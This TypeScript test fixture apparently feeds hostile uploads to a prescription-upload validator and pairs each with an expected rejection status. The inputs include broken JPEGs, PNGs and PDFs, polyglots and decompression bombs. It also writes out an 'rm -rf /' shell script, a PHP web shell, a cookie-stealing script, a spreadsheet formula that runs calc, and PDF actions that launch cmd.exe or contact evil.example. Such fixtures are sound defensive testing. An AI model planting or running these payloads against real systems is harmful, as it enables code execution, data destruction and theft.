import { deflateSync, gzipSync } from 'node:zlib'
import {
  chunk,
  CODES,
  frame,
  header,
  jpeg,
  JPEG_END,
  JPEG_START,
  pdf,
  png,
  PNG_START,
  SCAN,
  segment,
  stream,
  TABLE,
} from '#server/testing/prescriptions.ts'

// What somebody could send who means harm, or whose line breaks off. Made by code: none of it does anything.

export type Hostile = { what: string; bytes: Buffer; status: 400 | 413 | 415 }

const all = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string)))
const text = (latin1: string) => Buffer.from(latin1, 'latin1')

const HTML = '<!doctype html><html><script>alert(1)</script></html>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
const PHP = "<?php system($_GET['c']); ?>"
const ZIP = text(`PK\x03\x04${'\0'.repeat(26)}PK\x05\x06${'\0'.repeat(18)}`)
const FILM = all(Buffer.of(0, 0, 0, 24), 'ftypmp42', Buffer.alloc(64))

/** By what each of them begins with. */
const OTHER_KINDS: Record<string, Buffer | string> = {
  'a GIF': 'GIF89a\x01\0\x01\0;',
  'a WebP': 'RIFF\x24\0\0\0WEBPVP8 ',
  'a HEIC photograph': all(Buffer.of(0, 0, 0, 24), 'ftypheic', Buffer.alloc(32)),
  'an AVIF picture': all(Buffer.of(0, 0, 0, 24), 'ftypavif', Buffer.alloc(32)),
  'a JPEG 2000': text('\0\0\0\x0cjP  \r\n\x87\n'),
  'a JPEG XL': Buffer.of(0xff, 0x0a, 0, 0, 0),
  'a TIFF': text('II*\0\x08\0\0\0'),
  'a BMP': text('BM\x46\0\0\0\0\0'),
  'an icon': Buffer.of(0, 0, 1, 0, 1, 0),
  'a Photoshop file': '8BPS\0\x01',
  'an SVG with a script': SVG,
  'an SVG behind an XML declaration': `<?xml version="1.0"?>${SVG}`,
  'an SVG behind a byte order mark': `\ufeff${SVG}`,
  'a packed SVG': gzipSync(SVG),
  'a page of the web': HTML,
  'a page of the web in UTF-16': Buffer.from(`\ufeff${HTML}`, 'utf16le'),
  'a page behind blanks': `\n\n   ${HTML}`,
  'a script': 'alert(document.cookie)',
  'a program in PHP': PHP,
  'a shell script': '#!/bin/sh\nrm -rf /\n',
  'a program for Windows': text('MZ\x90\0\x03\0\0\0'),
  'a program for Linux': text('\x7fELF\x02\x01\x01'),
  'a program for a Mac': Buffer.of(0xcf, 0xfa, 0xed, 0xfe),
  'a class of Java': Buffer.of(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52),
  'a WebAssembly program': text('\0asm\x01\0\0\0'),
  'an archive': ZIP,
  'an office document': all(ZIP, 'word/document.xml'),
  'a RAR archive': text('Rar!\x1a\x07\x01\0'),
  'a 7z archive': text("7z\xbc\xaf'\x1c"),
  'a gzip archive': gzipSync('rx'),
  'a bomb of zeros': gzipSync(Buffer.alloc(9 * 2 ** 20)),
  'a film': FILM,
  'a song': 'ID3\x04\0',
  'a PostScript file': '%!PS-Adobe-3.0\n',
  'a form definition': '%FDF-1.2\n',
  'an RTF document': '{\\rtf1\\ansi}',
  'a spreadsheet’s text': '=cmd|calc!A1,1\n',
  'a JSON document': '{"kind":"image/jpeg"}',
  'plain text': 'Amoxicillin 500 mg',
  'nothing but zeros': Buffer.alloc(4096),
  'one byte': Buffer.of(0xff),
  'half of a PNG’s signature': PNG_START.subarray(0, 4),
  'a PNG through a text transfer': all('\x89PNG\n\x1a\n'),
  'a JPEG behind a blank': all(' ', jpeg()),
  'a PNG behind a byte order mark': all('\ufeff', png()),
  'a PDF behind an empty line': all('\n', pdf()),
  'a PDF behind a page': all(HTML, pdf()),
  'a PDF behind a program': all(text('MZ\x90\0'), Buffer.alloc(512), pdf()),
  'a form of a web page with a JPEG': all('--x\r\nContent-Type: image/jpeg\r\n\r\n', jpeg()),
  'a JPEG in base64': jpeg().toString('base64'),
  'a JPEG as an address': `data:image/jpeg;base64,${jpeg().toString('base64')}`,
}

/** What is put behind a whole file, so that it is something else as well. */
const TRAILERS: Record<string, Buffer | string> = {
  'a page of the web': HTML,
  'a program in PHP': PHP,
  'an archive': ZIP,
  'a film': FILM,
  'a single zero': Buffer.alloc(1),
  'a second file': jpeg(),
}

/** JPEG's own part for remarks. */
const remark = (content: string) => jpeg({ between: segment(0xfe, text(content)) })
const jpegOf = (...parts: Buffer[]) => all(JPEG_START, ...parts, JPEG_END)
const ROWS = Buffer.alloc(64, 7)
const FRAME = frame({ width: 640, height: 480 })

const JPEGS: Record<string, Buffer> = {
  'without its end': jpeg().subarray(0, -2),
  'with half of its end': jpeg().subarray(0, -1),
  'cut off in its rows': jpeg({ sizeBytes: 4000 }).subarray(0, 2000),
  'cut off in its tables': jpeg().subarray(0, 40),
  'of nothing but its beginning': Buffer.concat([JPEG_START, Buffer.of(0xff)]),
  'of nothing but beginning and end': jpegOf(),
  'without rows': jpegOf(TABLE, FRAME, CODES),
  'without its size': jpegOf(TABLE, CODES, SCAN, ROWS),
  'with two sizes': jpegOf(TABLE, FRAME, FRAME, CODES, SCAN, ROWS),
  'of no height': jpeg({ height: 0 }),
  'of no width': jpeg({ width: 0 }),
  'of 65,535 by 65,535': jpeg({ width: 65_535, height: 65_535 }),
  'that is a line of 20,000': jpeg({ width: 20_000, height: 1 }),
  'of 64 megapixels and a line': jpeg({ width: 8000, height: 8001 }),
  'with a part of no length': jpegOf(Buffer.of(0xff, 0xe0, 0, 0), TABLE, FRAME, SCAN, ROWS),
  'with a part of length one': jpegOf(Buffer.of(0xff, 0xe0, 0, 1), TABLE, FRAME, SCAN, ROWS),
  'with a part longer than the file': jpegOf(Buffer.of(0xff, 0xe0, 0xff, 0xff), TABLE, FRAME),
  'whose size is cut short': jpegOf(TABLE, segment(0xc0, [8, 1, 0, 1]), SCAN, ROWS),
  'that begins twice': all(JPEG_START, jpeg()),
  'with a mark that there is not': jpegOf(segment(0x02, [0]), TABLE, FRAME, SCAN, ROWS),
  'with bytes between its parts': jpegOf(TABLE, Buffer.of(0x3c, 0x61), FRAME, SCAN, ROWS),
  'of a thousand passes': jpegOf(TABLE, FRAME, ...Array.from({ length: 1000 }, () => SCAN)),
  'with a script in a remark': remark('<script>alert(1)</script>'),
  'with a program in a remark': remark(PHP),
  'with a page in a remark': remark(`--><!DOCTYPE html>${SVG}`),
  'with a page in its camera’s words': jpeg({ between: segment(0xe1, text(`Exif\0\0${HTML}`)) }),
  'that is a PDF as well': remark('%PDF-1.7\n1 0 obj'),
  'with an archive in a remark': remark(ZIP.toString('latin1')),
}

const IHDR = header({ width: 32, height: 24 })
const IDAT = chunk('IDAT', deflateSync(Buffer.alloc(33 * 24)))
const IEND = chunk('IEND')
const pngOf = (...parts: Buffer[]) => all(PNG_START, ...parts)
const pngWith = (...between: Buffer[]) => pngOf(IHDR, ...between, IDAT, IEND)

/** The same bytes but for one. */
function flipped(bytes: Buffer, at: number): Buffer {
  const other = Buffer.from(bytes)
  other[at < 0 ? bytes.length + at : at]! ^= 1 // within the file
  return other
}

const huge = (length: number) => {
  const other = Buffer.from(IDAT)
  other.writeUInt32BE(length)
  return other
}

const PNGS: Record<string, Buffer> = {
  'without its end': pngOf(IHDR, IDAT),
  'with half of its end': png().subarray(0, -5),
  'cut off in its data': png().subarray(0, 60),
  'of nothing but its signature': PNG_START,
  'of nothing but its header': pngOf(IHDR),
  'without data': pngOf(IHDR, IEND),
  'with empty data': pngOf(IHDR, chunk('IDAT'), IEND),
  'without its header': pngOf(IDAT, IEND),
  'whose header is not first': pngOf(chunk('tEXt', 'a'), IHDR, IDAT, IEND),
  'with two headers': pngOf(IHDR, IHDR, IDAT, IEND),
  'with a bit of its header turned': flipped(png(), 20),
  'with a bit of its data turned': flipped(png(), 70),
  'with a wrong checksum of its header': flipped(pngOf(IHDR, IDAT, IEND), 32),
  'with a wrong checksum at its end': flipped(png(), -1),
  'with something in its end': pngOf(IHDR, IDAT, chunk('IEND', 'x')),
  'with a part longer than the file': pngOf(IHDR, huge(0x7fffffff), IEND),
  'with a part of four gigabytes': pngOf(IHDR, huge(0xffffffff), IEND),
  'of no width': pngOf(header({ width: 0, height: 9 }), IDAT, IEND),
  'of no height': pngOf(header({ width: 9, height: 0 }), IDAT, IEND),
  'of two thousand million a side': pngOf(header({ width: 2 ** 31, height: 2 ** 31 }), IDAT, IEND),
  'of 50,000 by 50,000': pngOf(header({ width: 50_000, height: 50_000 }), IDAT, IEND),
  'of colours that there are not': pngOf(
    header({ width: 9, height: 9 }, [8, 5, 0, 0, 0]),
    IDAT,
    IEND,
  ),
  'of a depth that there is not': pngOf(
    header({ width: 9, height: 9 }, [3, 0, 0, 0, 0]),
    IDAT,
    IEND,
  ),
  'packed in another way': pngOf(header({ width: 9, height: 9 }, [8, 0, 1, 0, 0]), IDAT, IEND),
  'filtered in another way': pngOf(header({ width: 9, height: 9 }, [8, 0, 0, 1, 0]), IDAT, IEND),
  'woven in another way': pngOf(header({ width: 9, height: 9 }, [8, 0, 0, 0, 2]), IDAT, IEND),
  'whose header is too short': pngOf(chunk('IHDR', Buffer.alloc(12)), IDAT, IEND),
  'with a part that no browser knows': pngWith(chunk('EVIL', 'x')),
  'with a part that has no name': pngWith(chunk('\0\0\0\0', 'x')),
  'with a script in its words': pngWith(chunk('tEXt', `Comment\0${HTML}`)),
  'with a program in its words': pngWith(chunk('tEXt', `Comment\0${PHP}`)),
  'with an archive in its words': pngWith(chunk('zzZz', ZIP)),
  'that is a PDF as well': pngWith(chunk('tEXt', '%PDF-1.4\n1 0 obj')),
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const packed = (content: string, type = '/Type /ObjStm /N 1 /First 5') =>
  pdf({ objects: [stream(`7 0 ${content}`, type)] })
const whole = pdf().toString('latin1')

const PDFS: Record<string, Buffer> = {
  'with a script that starts by itself': pdf({ catalog: `/OpenAction ${SCRIPT}` }),
  'with a script behind a reference': pdf({
    catalog: '/OpenAction 5 0 R',
    objects: ['<< /S /URI >>'],
  }),
  'with a script among its names': pdf({
    catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`,
  }),
  'with a script in disguise': pdf({ objects: ['<< /S /J#61vaScr#69pt /JS (1) >>'] }),
  'with a script that is all disguise': pdf({
    objects: ['<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (1) >>'],
  }),
  'with a script in packed objects': packed(SCRIPT),
  'with a script in packed objects that say not what they are': packed(SCRIPT, ''),
  'with a disguised script in packed objects': packed('<< /S /Java#53cript >>'),
  'with a script behind a remark': pdf({ objects: [`<< /S % x\n/JavaScript >>`] }),
  'with a script inside of what is said to be a picture': pdf({
    objects: [`<< /Subtype /Image /Length 60 >>\nstream\n${SCRIPT}\nendstream`],
  }),
  'with an action that starts by itself': pdf({
    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>',
  }),
  'with actions of a page': pdf({
    catalog: '/AA << /O << /S /URI /URI (http://evil.example) >> >>',
  }),
  'with actions behind a reference': pdf({ catalog: '/AA 5 0 R', objects: ['<< >>'] }),
  'that starts a program': pdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
  'that starts a program, packed': packed('<< /S /Launch /F (cmd.exe) >>'),
  'that sends a form': pdf({ objects: ['<< /S /SubmitForm /F (http://evil.example) >>'] }),
  'that fetches data': pdf({ objects: ['<< /S /ImportData /F (x) >>'] }),
  'that opens another file': pdf({ objects: ['<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>'] }),
  'that opens a file in itself': pdf({ objects: ['<< /S /GoToE >>'] }),
  'with a film': pdf({ objects: ['<< /Subtype /RichMedia >>'] }),
  'with a file in it': pdf({ objects: [stream('MZ', '/Type /EmbeddedFile')] }),
  'with files among its names': pdf({
    catalog: '/Names << /EmbeddedFiles 5 0 R >>',
    objects: ['[]'],
  }),
  'with a file pinned to its page': pdf({ objects: ['<< /Subtype /FileAttachment >>'] }),
  'with a form of another kind': pdf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: ['[]'] }),
  'that is locked': pdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard >>'] }),
  'that is locked in disguise': pdf({ trailer: '/Encr#79pt 5 0 R', objects: ['<< >>'] }),
  'without its end': pdf().subarray(0, -7),
  'cut off in the middle': pdf().subarray(0, 300),
  'cut off in its table': text(whole.slice(0, whole.indexOf('trailer'))),
  'of nothing but its beginning': text('%PDF-1.7\n'),
  'of nothing but beginning and end': text('%PDF-1.7\n%%EOF\n'),
  'without a version': text(whole.replace('%PDF-1.7', '%PDF-x.y')),
  'whose table is nowhere': text(whole.replace(/startxref\n\d+/, 'startxref\n9999999')),
  'whose table is something else': text(whole.replace(/startxref\n\d+/, 'startxref\n12')),
  'with the middle taken out': text(whole.slice(0, 60) + whole.slice(160)),
  'behind another PDF': all(pdf(), pdf({ catalog: '/Lang (en)' })),
  'whose packed objects are broken': pdf({
    objects: [flipped(stream(`1 0 ${'a'.repeat(99)}`), -14)],
  }),
  'whose packed objects are packed in another way': pdf({
    objects: ['<< /Type /ObjStm /N 1 /First 4 >>\nstream\n3720203C3C3E3E>\nendstream'],
  }),
  'whose packed objects are a bomb': packed(' '.repeat(40 * 2 ** 20)),
  'of endless packed parts': pdf({ objects: Array.from({ length: 5001 }, () => stream('q')) }),
  'with a page of the web in it': pdf({ objects: [`(${HTML})`] }),
  'with a program in it': pdf({ objects: [`(${PHP})`] }),
  'that is an archive as well': pdf({ objects: [all('<< >>\nstream\n', ZIP, '\nendstream')] }),
}

const WHOLE = { 'a JPEG': jpeg(), 'a PNG': png(), 'a PDF': pdf() }

function named(kind: string, table: Record<string, Buffer>): Hostile[] {
  return Object.entries(table).map(([what, bytes]) => ({
    what: `${kind} ${what}`,
    bytes,
    status: 400,
  }))
}

export const HOSTILE: readonly Hostile[] = [
  { what: 'nothing', bytes: Buffer.alloc(0), status: 400 },
  { what: 'a JPEG over 10 MB', bytes: jpeg({ sizeBytes: 10 * 2 ** 20 + 1000 }), status: 413 },
  { what: 'zeros over 10 MB', bytes: Buffer.alloc(10 * 2 ** 20 + 1), status: 413 },
  ...Object.entries(OTHER_KINDS).map(([what, content]): Hostile => ({
    what,
    bytes: all(content),
    status: 415,
  })),
  ...Object.entries(WHOLE).flatMap(([kind, bytes]) =>
    Object.entries(TRAILERS).map(([what, trailer]): Hostile => ({
      what: `${kind} with ${what} behind it`,
      bytes: all(bytes, trailer),
      status: 400,
    })),
  ),
  ...named('a JPEG', JPEGS),
  ...named('a PNG', PNGS),
  ...named('a PDF', PDFS),
]
